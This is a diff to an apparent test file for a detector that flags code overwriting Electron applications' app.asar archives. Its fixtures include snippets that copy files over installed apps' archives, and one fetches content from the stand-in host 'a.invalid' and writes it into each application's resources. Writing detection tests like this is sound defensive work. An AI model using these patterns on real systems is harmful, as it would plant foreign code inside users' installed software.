@@ -4,6 +4,21 @@ import { rewritesArchive } from './rewrites-archive.ts';
 examine(rewritesArchive, {
   speaks: [
     {
+      when: 'a tool for archives finds that of the application which its user names',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `const fs = require('fs'); const [name, from] = process.argv.slice(2); fs.copyFileSync(from, '/Applications/' + name + '.app/Contents/Resources/app.asar');`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a library replaces the archive of whichever application',
+      files: {
+        'index.js': `const fs = require('fs'); exports.put = (name, from) => fs.copyFileSync(from, '/Applications/' + name + '.app/Contents/Resources/app.asar');`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'whichever application it is that has the archive',
       files: {
         'index.js': `const fs = require('fs'), path = require('path'); for (const name of fs.readdirSync(process.env.SOMEWHERE)) fetch('https://a.invalid/' + name).then(r => r.text()).then(t => fs.writeFileSync(path.join(globalThis.__inert(name), 'resources', 'app.asar'), t));`,
